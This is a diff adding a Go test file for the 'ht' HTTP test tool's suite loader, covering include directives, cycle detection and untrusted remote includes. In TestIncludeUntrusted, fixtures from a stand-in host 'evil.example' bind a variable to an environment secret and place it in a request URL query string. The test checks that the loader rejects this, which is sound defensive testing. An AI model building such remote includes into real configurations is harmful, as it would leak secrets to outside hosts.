@@ -0,0 +1,165 @@
+// Copyright 2017 Volker Dobler.  All rights reserved.
+// Use of this source code is governed by a BSD-style
+// license that can be found in the LICENSE file.
+
+package suite
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/vdobler/ht/ht"
+	"github.com/vdobler/ht/scope"
+)
+
+var includeFS = `
+# test.ht
+{
+    Name: "Include test"
+    Request: {
+        $include: "shared/header.hjson"
+        URL: "http://{{HOST}}/"
+        Header: { "X-Local": "yes" }
+    }
+    Checks: [
+        {Check: "Body", Contains: "foo"}
+        "!include shared/checks.hjson"
+    ]
+    Execution: "!include execution.hjson"
+}
+
+# shared/header.hjson
+{
+    Method: "POST"
+    Header: { "Accept": "text/html" }
+}
+
+# shared/checks.hjson
+[
+    {Check: "StatusCode", Expect: 200}
+    "!include more.hjson"
+]
+
+# shared/more.hjson
+{Check: "ContentType", Is: "html"}
+
+# execution.hjson
+{Tries: 3}
+
+# mention.ht
+{
+    # Uses no $include at all.
+    Name: "Mentions !include in text"
+}
+
+# cycle.ht
+{ Name: "!include cycle2.hjson" }
+
+# cycle2.hjson
+{ Name: "!include cycle.ht" }
+`
+
+func TestInclude(t *testing.T) {
+	fs, err := NewFileSystem(includeFS)
+	if err != nil {
+		t.Fatalf("Unexpected error %s", err)
+	}
+
+	rt, err := LoadRawTest("test.ht", fs)
+	if err != nil {
+		t.Fatalf("Unexpected error %s", err)
+	}
+	test, err := rt.ToTest(scope.Variables{"HOST": "example.org"})
+	if err != nil {
+		t.Fatalf("Unexpected error %s", err)
+	}
+
+	if test.Request.Method != "POST" || test.Request.URL != "http://example.org/" {
+		t.Errorf("Bad request %+v", test.Request)
+	}
+	if got := test.Request.Header.Get("X-Local"); got != "yes" {
+		t.Errorf("Got X-Local=%q", got)
+	}
+	if got := test.Request.Header.Get("Accept"); got != "" {
+		t.Errorf("Local Header should override included one, got Accept=%q", got)
+	}
+	if test.Execution.Tries != 3 {
+		t.Errorf("Got Tries=%d", test.Execution.Tries)
+	}
+	names := []string{}
+	for _, c := range test.Checks {
+		names = append(names, ht.NameOf(c))
+	}
+	if got := strings.Join(names, ","); got != "Body,StatusCode,ContentType" {
+		t.Errorf("Got checks %s", got)
+	}
+
+	// Files merely mentioning include directives are not rewritten.
+	file, err := fs.Load("mention.ht")
+	if err != nil || !strings.Contains(file.Data, "# Uses no $include at all.") {
+		t.Errorf("Got %v %v", file, err)
+	}
+
+	_, err = fs.Load("cycle.ht")
+	if err == nil || !strings.Contains(err.Error(), "include cycle") {
+		t.Errorf("Got error %v", err)
+	}
+}
+
+func TestIncludeUntrusted(t *testing.T) {
+	fs, err := NewFileSystem(`
+# local.suite
+{
+    Name: "Local"
+    $include: "https://evil.example/inc.hjson"
+}
+
+# https://evil.example/inc.hjson
+{
+    Variables: { TOK: "@secret:env:HOME" }
+}
+
+# nested.suite
+{
+    Name: "Nested"
+    Main: [ "!include https://evil.example/main.hjson" ]
+}
+
+# https://evil.example/main.hjson
+[
+    { File: "test.ht", Variables: "!include nested.hjson" }
+]
+
+# https://evil.example/nested.hjson
+{ TOK: "@secret:env:HOME" }
+
+# test.ht
+{ Request: { URL: "http://{{HOST}}/?tok={{TOK}}" } }
+
+# trusted.suite
+{
+    Name: "Trusted"
+    $include: "vars.hjson"
+}
+
+# vars.hjson
+{
+    Variables: { TOK: "@secret:env:HOME" }
+}
+`)
+	if err != nil {
+		t.Fatalf("Unexpected error %s", err)
+	}
+
+	_, err = LoadRawSuite("local.suite", fs)
+	if err == nil || !strings.Contains(err.Error(), "cannot reference secrets") {
+		t.Errorf("Got error %v", err)
+	}
+	_, err = LoadRawSuite("nested.suite", fs)
+	if err == nil || !strings.Contains(err.Error(), "cannot reference secrets") {
+		t.Errorf("Got error %v", err)
+	}
+	if _, err = LoadRawSuite("trusted.suite", fs); err != nil {
+		t.Errorf("Unexpected error %s", err)
+	}
+}